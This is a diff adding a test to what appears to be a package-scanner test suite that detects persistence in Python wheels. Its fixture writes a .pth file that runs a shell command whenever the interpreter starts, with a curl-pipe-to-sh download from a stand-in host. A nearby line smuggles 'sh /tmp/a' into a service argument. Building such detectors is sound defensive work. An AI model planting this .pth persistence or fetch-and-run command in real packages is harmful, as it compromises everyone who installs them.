@@ -513,3 +513,18 @@ test('on call, a service that starts a module of the archive itself is an instal
   expect(await inspect('persistence', service('-m other run'))).toMatchObject([{ class: 'suspicious', score: 4 }]);
   expect(await inspect('persistence', service('-m pkg; sh /tmp/a'))).toMatchObject([{ score: 4 }]);
 });
+
+test('a line for every start of the interpreter that downloads and runs leaves no doubt', async () => {
+  const left = (line: string): ReturnType<typeof wheel> =>
+    wheel({
+      'pkg/__init__.py': python(
+        'import os, sysconfig',
+        `open(os.path.join(sysconfig.get_paths()['purelib'], 'site-tools.pth'), 'w').write('import os;os.system("${line}")')`,
+      ),
+    });
+
+  expect(await inspect('persistence', left('curl -s https://stage.metrics.invalid/a | sh'))).toMatchObject([
+    { class: 'malware', score: 10, context: 'import', line: 2 },
+  ]);
+  expect(await inspect('persistence', left('date'))).toMatchObject([{ class: 'malware', score: 8.5 }]);
+});
